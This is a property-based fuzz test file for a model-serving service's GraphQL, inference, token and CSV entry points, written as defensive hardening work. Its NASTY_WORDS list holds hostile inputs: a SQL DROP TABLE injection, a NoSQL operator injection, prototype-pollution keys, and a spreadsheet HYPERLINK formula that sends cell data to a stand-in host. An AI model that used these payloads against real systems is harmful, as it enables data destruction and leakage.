import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { rmSync } from 'node:fs';
import fc from 'fast-check';
import { issueDevToken, loadOrCreateDevIssuerKey } from '../../src/auth/dev-issuer.js';
import {
  buildGermanCreditModels,
  defaultGermanCreditPath,
  erroringModel,
  type GermanCreditModels,
} from '../../src/model-builder/index.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { createEndpoint, registerModel, registerVersion, setTraffic } from '../support/registry.js';
import {
  evaluate,
  FAST_ROLLOUT_ENV,
  fastPolicies,
  PEOPLE,
  promote,
  RATIONALE,
  requestPromotion,
  Traffic,
  uploadDataset,
  waitForRollout,
  type Client,
} from '../support/rollout-story.js';

/**
 * Property-based tests of the entry points: generated hostile input (NUL and other control
 * characters, unpaired surrogates, formula starts, prototype keys, numbers beyond the double
 * range, deep nesting, cut-off bodies) sent through GraphQL, the inference body, tokens' claims
 * and CSV uploads. Every answer must be a client error or a success, never INTERNAL or a 5xx;
 * afterwards the service still answers and a rollout still rolls a faulty candidate back.
 *
 * Runs are seeded from the run's time, as fast-check does; a failure prints its seed and path,
 * and each failure found is kept as an example case below (`examples`), so it is tried on
 * every run from then on.
 */

const RUNS = 40;

/** Characters that have broken services: NUL, controls, lone surrogates, separators, BOM. */
const NASTY_CHARS = [
  '\u0000',
  '\u0001',
  '\u001f',
  '\u007f',
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  '\u2028',
  '\ufeff',
  '\uffff',
  '\t',
  '\r',
  '\n',
  '"',
  '\\',
  "'",
  '=',
  '+',
  '-',
  '@',
];
const NASTY_WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '=HYPERLINK("http://x.example/?"&A2,"x")',
  '@SUM(1+1)',
  '{"$ne":null}',
  "'; DROP TABLE ledger_events; --",
  '😀',
];

const hostileString: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...NASTY_CHARS),
      fc.constantFrom(...NASTY_WORDS),
      fc.string({ maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 6 }),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((parts) => parts.join(''));

/** JSON number literals that parse to Infinity, 0, a lost-digit integer or minus zero. */
const hostileNumberLiteral = fc.constantFrom(
  '1e400',
  '-1e400',
  '1e-400',
  '123456789012345678901234567890',
  '-0',
  '0.1e99999',
  '3.5e38',
);

/** A JSON value as text, with hostile strings, member names and number literals in it. */
const hostileJson: fc.Arbitrary<string> = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString.map((s) => JSON.stringify(s)),
    hostileNumberLiteral,
    fc.double().map((d) => (Number.isFinite(d) ? JSON.stringify(d) : '0')),
    fc.constantFrom('true', 'false', 'null'),
    fc.array(tie('value'), { maxLength: 4 }).map((items) => `[${items.join(',')}]`),
    fc
      .array(fc.tuple(fc.oneof(hostileString, fc.constantFrom(...NASTY_WORDS)), tie('value')), {
        maxLength: 4,
      })
      .map((members) => `{${members.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
  ),
})).value;

/** `depth` nested arrays or objects around a value. */
const deeplyNested = fc
  .tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean())
  .map(([depth, arrays]) =>
    arrays
      ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
      : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
  );

const CRITERIA = {
  maxErrorRate: { value: 0.02, window: { minRequests: 20, seconds: 60 } },
  minDisparateImpact: { value: 0.7, window: { minRequests: 60, seconds: 60 } },
};

/**
 * Percent-encoding that, unlike encodeURIComponent, does not refuse a lone surrogate: it is sent
 * as the three bytes UTF-8 would give it were it a code point (not valid UTF-8).
 */
function percentEncoded(text: string): string {
  return text.replace(/[\s\S]/gu, (c) => {
    const code = c.codePointAt(0) ?? 0;
    if (code < 0xd800 || code > 0xdfff || c.length > 1) return encodeURIComponent(c);
    return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
      .map((b) => `%${b.toString(16).toUpperCase()}`)
      .join('');
  });
}

/**
 * The oracle, written apart from the service's own check: text breaks the rule when it holds
 * NUL or is not well-formed UTF-16 (String.prototype.isWellFormed, ES2024).
 */
function breaksTextRule(text: string): boolean {
  return (
    text.includes('\u0000') || !(text as unknown as { isWellFormed(): boolean }).isWellFormed()
  );
}

/** Whether a parsed JSON value holds such text anywhere, member names included. */
function holdsBadText(value: unknown): boolean {
  const stack: unknown[] = [value];
  while (stack.length > 0) {
    const v = stack.pop();
    if (typeof v === 'string' && breaksTextRule(v)) return true;
    if (Array.isArray(v)) for (const item of v as unknown[]) stack.push(item);
    else if (typeof v === 'object' && v !== null)
      for (const [k, member] of Object.entries(v)) {
        if (breaksTextRule(k)) return true;
        stack.push(member);
      }
  }
  return false;
}

/**
 * Enumerable members added to Object.prototype: the service runs in this process, so a request
 * that polluted it shows here (one did: a protected-attribute group named `__proto__`).
 */
function prototypePollution(): string[] {
  const keys: string[] = [];
  for (const key in {}) keys.push(key);
  return keys;
}

/** Statuses a client error or a success may have; never a 5xx. */
const CLIENT_OR_OK = new Set([200, 201, 400, 401, 403, 404, 409, 413, 415]);

describe('generated hostile input at every entry point', () => {
  let app: TestApp;
  let models: GermanCreditModels;
  let policiesDir: string;
  const tokens: Record<string, string> = {};
  const client: Client = {
    url: () => app.url,
    token: (who) => tokens[who] ?? '',
  };
  let width = 0;
  let fair = 0;
  let faulty = 0;
  const evaluations: Record<number, string> = {};
  let pendingPromotion = '';
  let pendingDigest = '';

  async function gqlStatus(
    query: string,
    variables: Record<string, unknown>,
    token: string,
  ): Promise<{ status: number; codes: string[] }> {
    const response = await fetch(`${app.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ query, variables }),
    });
    const body = (await response.json()) as { errors?: { extensions?: { code?: string } }[] };
    return {
      status: response.status,
      codes: (body.errors ?? []).map((e) => e.extensions?.code ?? 'NONE'),
    };
  }

  async function rawInfer(body: string, token = tokens['ivan'] ?? ''): Promise<number> {
    const response = await fetch(`${app.url}/v2/models/fuzz/infer`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body,
    });
    const text = await response.text();
    if (response.status !== 200)
      expect(Object.keys(JSON.parse(text) as Record<string, unknown>)).toEqual(['error']);
    return response.status;
  }

  const features = (i = 0): number[] => Array.from(models.data.X[i] ?? []);
  const inferBody = (extra: string): string =>
    `{"inputs":[{"name":"features","datatype":"FP32","shape":[1,${width}],"data":${JSON.stringify(features())}}]${extra}}`;

  beforeAll(async () => {
    models = buildGermanCreditModels();
    width = features().length;
    policiesDir = fastPolicies();
    app = await startTestApp({
      ...FAST_ROLLOUT_ENV,
      GATEHOUSE_POLICIES_DIR: policiesDir,
      // The faulty build fails runs of an odd number of rows (so its evaluation, of 1000, passes);
      // micro-batching would merge single-row requests into even runs.
      GATEHOUSE_MICROBATCH_MAX_ROWS: '1',
    });
    for (const [who, roles] of Object.entries(PEOPLE)) tokens[who] = await app.token(who, ...roles);
    await registerModel(app, client.token('dana'), 'credit-risk', { riskTier: 'HIGH' });
    fair = await registerVersion(app, client.token('dana'), 'credit-risk', models.fair);
    faulty = await registerVersion(
      app,
      client.token('dana'),
      'credit-risk',
      erroringModel(models.fair, 'odd-batch'),
    );
    const dataset = await uploadDataset(client, defaultGermanCreditPath());
    for (const v of [fair, faulty])
      evaluations[v] = await evaluate(client, 'credit-risk', v, dataset);
    for (const endpoint of ['fuzz', 'fuzz-requests', 'guarded']) {
      await createEndpoint(app, client.token('erin'), endpoint, 'credit-risk');
      await setTraffic(app, endpoint, { liveVersion: fair });
    }
    const pending = await requestPromotion(client, {
      endpoint: 'fuzz-requests',
      model: 'credit-risk',
      version: faulty,
      evaluationId: evaluations[faulty] ?? '',
      strategy: 'CANARY',
      plan: { canary: { steps: [50], minRequestsPerStep: 20, bakeSeconds: 1 } },
      rollbackCriteria: { ...CRITERIA, rationale: RATIONALE },
    });
    pendingPromotion = pending.id;
    pendingDigest = pending.requestDigest;
  }, 240_000);

  afterAll(async () => {
    await app.close();
    rmSync(policiesDir, { recursive: true, force: true });
  });

  it('GraphQL: no text argument, in variables or in the document, gets INTERNAL; one that breaks the rule is refused', async () => {
    const card = {
      intendedUse: 'Scores consumer credit applications for review.',
      outOfScopeUses: ['Automated rejection'],
      limitations: 'Trained on 1970s German data.',
      trainingData: 'Statlog German credit.',
      ethicalConsiderations: 'Sex and age are protected.',
    };
    const targets: ((s: string) => [string, Record<string, unknown>, string])[] = [
      (s) => [
        `mutation($input: RegisterModelInput!) { registerModel(input: $input) { id } }`,
        {
          input: {
            name: 'fuzzed',
            riskTier: 'LOW',
            owner: s,
            protectedAttributes: [s],
            modelCard: { ...card, limitations: s, outOfScopeUses: [s] },
          },
        },
        'dana',
      ],
      (s) => [
        `mutation($model: String!) { registerModel(input: { name: $model, riskTier: LOW, owner: "o", protectedAttributes: [], modelCard: { intendedUse: "u", outOfScopeUses: [], limitations: "l", trainingData: "t", ethicalConsiderations: "e" } }) { id } }`,
        { model: s },
        'dana',
      ],
      (s) => [
        `mutation { registerModel(input: { name: ${JSON.stringify(s)}, riskTier: LOW, owner: ${JSON.stringify(s)}, protectedAttributes: [], modelCard: { intendedUse: ${JSON.stringify(s)}, outOfScopeUses: [], limitations: "l", trainingData: "t", ethicalConsiderations: "e" } }) { id } }`,
        {},
        'dana',
      ],
      (s) => [
        `mutation($j: String!, $c: RollbackCriteriaInput!, $e: ID!, $v: Int!) { requestPromotion(endpoint: "fuzz-requests", model: "credit-risk", version: $v, evaluationId: $e, strategy: CANARY, plan: { canary: { steps: [50], minRequestsPerStep: 20, bakeSeconds: 1 } }, rollbackCriteria: $c, justification: $j) { id } }`,
        { j: s, c: { ...CRITERIA, rationale: s }, e: evaluations[faulty] ?? '', v: faulty },
        'dana',
      ],
      (s) => [
        `mutation($id: ID!, $s: String, $d: String!) { approvePromotion(id: $id, role: "compliance-officer", statement: $s, requestDigest: $d) { id } }`,
        { id: pendingPromotion, s, d: pendingDigest },
        'cora',
      ],
      (s) => [
        `mutation($id: ID!, $r: String!) { rejectPromotion(id: $id, reason: $r) { id } }`,
        { id: s, r: s },
        'vera',
      ],
      (s) => [
        `mutation($s: String!) { exportAuditReport(subject: $s) { id } }`,
        { s: `period:${s}/${s}` },
        'audrey',
      ],
      (s) => [`query($n: String!) { model(name: $n) { name } }`, { n: s }, 'audrey'],
      (s) => [`query($n: String!) { endpoint(name: $n) { name } }`, { n: s }, 'audrey'],
    ];
    await fc.assert(
      fc.asyncProperty(fc.nat(targets.length - 1), hostileString, async (t, s) => {
        const [query, variables, who] = (
          targets[t] as (s: string) => [string, Record<string, unknown>, string]
        )(s);
        const { status, codes } = await gqlStatus(query, variables, tokens[who] ?? '');
        expect(prototypePollution()).toEqual([]);
        expect({
          status: status < 500,
          codes: codes.filter((c) => c === 'INTERNAL' || c === 'NONE'),
          refused: breaksTextRule(s) ? codes : 'not asked',
        }).toEqual({
          status: true,
          codes: [],
          refused: breaksTextRule(s) ? ['BAD_USER_INPUT'] : 'not asked',
        });
      }),
      {
        numRuns: RUNS * targets.length,
        examples: [
          [0, 'a\u0000'],
          [4, '\ud800'],
          [6, '0000-01-01'],
        ],
      },
    );
  }, 240_000);

  it('the inference body: no member, number or nesting gets a 5xx; bad text is refused', async () => {
    const bodies = fc.oneof(
      hostileJson,
      deeplyNested,
      hostileString.map((id) => inferBody(`,"id":${JSON.stringify(id)}`)),
      fc
        .tuple(hostileString, hostileString)
        .map(([k, v]) =>
          inferBody(`,"parameters":{"attributes":{${JSON.stringify(k)}:${JSON.stringify(v)}}}`),
        ),
      hostileJson.map((v) => inferBody(`,"parameters":${v}`)),
      hostileJson.map((v) => inferBody(`,"outputs":${v}`)),
      hostileNumberLiteral.map(
        (n) =>
          `{"inputs":[{"name":"features","datatype":"FP32","shape":[1,${width}],"data":[${[n, ...features().slice(1)].join(',')}]}]}`,
      ),
      fc
        .tuple(fc.constantFrom(...NASTY_WORDS), hostileJson)
        .map(([k, v]) => inferBody(`,${JSON.stringify(k)}:${v}`)),
      fc.nat(400).map((cut) => inferBody('').slice(0, cut)),
    );
    await fc.assert(
      fc.asyncProperty(bodies, async (body) => {
        const status = await rawInfer(body);
        expect(prototypePollution()).toEqual([]);
        let parsed: unknown;
        try {
          parsed = JSON.parse(body);
        } catch {
          parsed = undefined;
        }
        const bad = parsed === undefined || holdsBadText(parsed);
        expect({
          body: body.slice(0, 200),
          ok: CLIENT_OR_OK.has(status),
          refused: bad ? status : 'not asked',
        }).toEqual({ body: body.slice(0, 200), ok: true, refused: bad ? 400 : 'not asked' });
      }),
      {
        numRuns: RUNS * 8,
        examples: [
          [inferBody(',"parameters":{"attributes":{"sex":"female\\u0000"}}')],
          [inferBody(',"id":"r\\u0000"')],
          [inferBody(',"parameters":{"attributes":{"constructor":"x","toString":"y"}}')],
          // Found by this property (seed 72514714's run): a group named __proto__ reached
          // Object.prototype through the arm metrics' per-group counts.
          [inferBody(',"parameters":{"attributes":{"sex":"__proto__","age_group":"constructor"}}')],
        ],
      },
    );
  }, 240_000);

  it('tokens: no subject or roles claim gets INTERNAL or a 5xx; bad text is refused', async () => {
    const key = await loadOrCreateDevIssuerKey(app.config.dataDir);
    const roles = fc.array(
      fc.oneof(hostileString, fc.constantFrom(...NASTY_WORDS, 'auditor', 'inference-client')),
      {
        maxLength: 4,
      },
    );
    await fc.assert(
      fc.asyncProperty(hostileString, roles, async (sub, claimed) => {
        const token = await issueDevToken(key, {
          sub,
          roles: claimed,
          ttlSeconds: 600,
          audience: app.config.auth.audience,
          rolesClaim: app.config.auth.rolesClaim,
        });
        for (const query of ['{ me { sub roles } }', '{ models { items { name } } }']) {
          const { status, codes } = await gqlStatus(query, {}, token);
          const bad = breaksTextRule(sub) || claimed.some(breaksTextRule);
          expect({
            sub,
            claimed,
            status: status < 500,
            internal: codes.includes('INTERNAL'),
            refused: bad ? codes : 'not asked',
          }).toEqual({
            sub,
            claimed,
            status: true,
            internal: false,
            refused: bad ? ['UNAUTHENTICATED'] : 'not asked',
          });
        }
        const inferred = await rawInfer(inferBody(''), token);
        expect(prototypePollution()).toEqual([]);
        expect({ sub, claimed, ok: CLIENT_OR_OK.has(inferred) }).toEqual({
          sub,
          claimed,
          ok: true,
        });
      }),
      {
        numRuns: RUNS * 2,
        examples: [
          ['mallory', ['__proto__']],
          ['a\u0000', ['auditor']],
        ],
      },
    );
  }, 240_000);

  it('CSV uploads: no cell, header or byte gets a 5xx; NUL is refused', async () => {
    const cell = fc.oneof(hostileString, fc.constantFrom('1', '-2.5', '1e400', 'NaN', ''));
    const csv = fc
      .tuple(
        fc.array(fc.oneof(hostileString, fc.constantFrom(...NASTY_WORDS)), {
          minLength: 1,
          maxLength: 4,
        }),
        fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 6 }),
        fc.constantFrom('\n', '\r\n', '\r'),
      )
      .map(([header, rows, eol]) =>
        [header, ...rows]
          .map((r) =>
            r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(','),
          )
          .join(eol),
      );
    let n = 0;
    await fc.assert(
      fc.asyncProperty(csv, hostileString, async (text, name) => {
        const response = await fetch(
          `${app.url}/v1/datasets?name=${percentEncoded(n++ % 3 === 0 ? name : `fuzz-${n}`)}`,
          {
            method: 'PUT',
            headers: {
              authorization: `Bearer ${tokens['dana'] ?? ''}`,
              'content-type': 'text/csv',
            },
            body: text,
          },
        );
        const body = await response.text();
        expect(prototypePollution()).toEqual([]);
        const bad = text.includes('\u0000');
        expect({
          text: text.slice(0, 200),
          ok: CLIENT_OR_OK.has(response.status),
          refused: bad ? response.status : 'not asked',
        }).toEqual({ text: text.slice(0, 200), ok: true, refused: bad ? 400 : 'not asked' });
        if (response.status >= 400)
          expect(Object.keys(JSON.parse(body) as Record<string, unknown>)).toEqual(['error']);
      }),
      {
        numRuns: RUNS * 2,
        examples: [
          ['a,b\n1,x\u0000y', 'ok'],
          ['__proto__,constructor\n1,2', 'p'],
        ],
      },
    );
  }, 240_000);

  it('afterwards the service answers, and a faulty candidate under poisoned traffic is rolled back', async () => {
    const ready = await fetch(`${app.url}/v2/health/ready`);
    expect(ready.status).toBe(200);
    const traffic = new Traffic(client, 'guarded', models.data, { concurrency: 2 }).start();
    const poisoning = { on: true };
    const poisoned: number[] = [];
    const poison = (async () => {
      while (poisoning.on) {
        const response = await fetch(`${app.url}/v2/models/guarded/infer`, {
          method: 'POST',
          headers: {
            'content-type': 'application/json',
            authorization: `Bearer ${tokens['ivan'] ?? ''}`,
          },
          body: inferBody(
            ',"parameters":{"attributes":{"sex":"female\\u0000","age_group":"\\ud800"}}',
          ),
        });
        await response.arrayBuffer();
        poisoned.push(response.status);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    try {
      const started = await promote(client, {
        endpoint: 'guarded',
        model: 'credit-risk',
        version: faulty,
        evaluationId: evaluations[faulty] ?? '',
        strategy: 'SHADOW_THEN_CANARY',
        plan: {
          shadow: { sampleRate: 1, minRequests: 40, minDurationSeconds: 1 },
          canary: { steps: [25], minRequestsPerStep: 40, bakeSeconds: 1 },
        },
        rollbackCriteria: { ...CRITERIA, rationale: RATIONALE },
      });
      const done = await waitForRollout(client, started.id, (r) => r.status !== 'RUNNING', 150_000);
      expect({ status: done.status, stage: done.stages[0]?.status }).toEqual({
        status: 'ROLLED_BACK',
        stage: 'FAILED',
      });
    } finally {
      poisoning.on = false;
      await poison;
      await traffic.stop();
    }
    expect(poisoned.length).toBeGreaterThan(0);
    expect(new Set(poisoned)).toEqual(new Set([400]));
  }, 200_000);
});
